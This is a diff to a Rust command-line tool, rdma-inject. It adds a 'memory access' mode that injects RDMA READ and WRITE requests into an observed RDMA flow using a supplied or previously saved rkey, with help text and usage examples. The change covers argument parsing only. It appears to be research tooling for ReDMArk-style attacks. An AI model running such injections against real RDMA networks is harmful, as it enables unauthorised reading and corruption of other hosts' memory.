@@ -57,6 +57,16 @@ Modes:
       rdma-inject --replay msg.pcap --iface veth-b
       rdma-inject --replay msg.pcap --observe veth-b --dst 10.77.0.1
 
+  --observe IFACE --read | --write TEXT | --write-imm TEXT --rkey N
+                       Memory access (ReDMArk). At the learned flow's next PSN, an RC RDMA
+                       READ Request of --read-len bytes (default address 0), a plain RC RDMA
+                       WRITE Only, or a WRITE WITH IMMEDIATE, with --rkey/--addr instead of
+                       the observed WRITE's (e.g. a previous session's saved rkey). Then
+                       watch --watch-ms for the responder's answers to that PSN and report
+                       them: READ response packets, ACKs, NAKs with their syndrome.
+      rdma-inject --observe veth-b --dst 10.77.0.1 --read
+      rdma-inject --observe veth-b --dst 10.77.0.1 --write-imm X --rkey 0x1234
+
 Output: one line per injected packet and a summary on stdout; with --json one object per
 injected packet ({\"injected\": {\"opcode\", \"dst_qpn\", \"psn\", \"bytes\", \"payload_len\"}})
 and a final {\"summary\": {...}}. Progress goes to stderr.
@@ -186,13 +196,16 @@ pub struct Cli {
     /// Log format on stderr: text or json (RUST_LOG sets the level, default info)
     #[arg(long, value_name = "FORMAT", value_enum, default_value_t)]
     pub log_format: LogFormat,
+    /// Memory-access attacks (--read, --write, --rkey, --addr, --watch-ms)
+    #[command(flatten)]
+    pub memory: crate::memory_cli::MemoryArgs,
 }
 
 fn mac_arg(s: &str) -> Result<MacAddr, String> {
     parse_mac(s).map_err(|e| e.to_string())
 }
 
-fn u32_arg(s: &str) -> Result<u32, String> {
+pub(crate) fn u32_arg(s: &str) -> Result<u32, String> {
     let t = s.trim();
     let parsed = match t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
         Some(hex) => u32::from_str_radix(hex, 16),
@@ -278,6 +291,9 @@ pub enum CliError {
     /// A `--blind` flag without `--blind`.
     #[error("{0} is for --blind only")]
     BlindOnly(&'static str),
+    /// `--rkey` or `--addr` with nothing to aim.
+    #[error("--rkey and --addr aim --read, --write or --write-imm: give one of them")]
+    StrayTarget,
     /// `--iface` given where it means nothing.
     #[error("--iface is for --blind and --replay; --observe names its interface itself")]
     StrayIface,
@@ -296,6 +312,7 @@ impl Cli {
             ("--send", self.send.as_ref().map(String::len)),
             ("--send-hex", self.send_hex.as_ref().map(|b| b.0.len())),
             ("--write-imm", self.write_imm.as_ref().map(String::len)),
+            ("--write", self.memory.write.as_ref().map(String::len)),
         ] {
             if let Some(len) = len.filter(|&l| l > MAX_PAYLOAD) {
                 return Err(CliError::PayloadTooLong { flag, len });
@@ -375,6 +392,16 @@ impl Cli {
             }
             Some(_) => return Err(CliError::StrayIface),
             None => {}
+        }
+        if let Some(access) = self.memory.access(self.write_imm.as_deref(), self.imm) {
+            return Ok(Plan::Memory {
+                learn: learn(observe),
+                access,
+                watch: self.memory.watch(),
+            });
+        }
+        if self.memory.rkey.is_some() || self.memory.addr.is_some() {
+            return Err(CliError::StrayTarget);
         }
         let injection = match (&self.send, &self.send_hex, &self.write_imm) {
             (Some(t), _, _) => Some(Injection::Send(t.clone().into_bytes())),
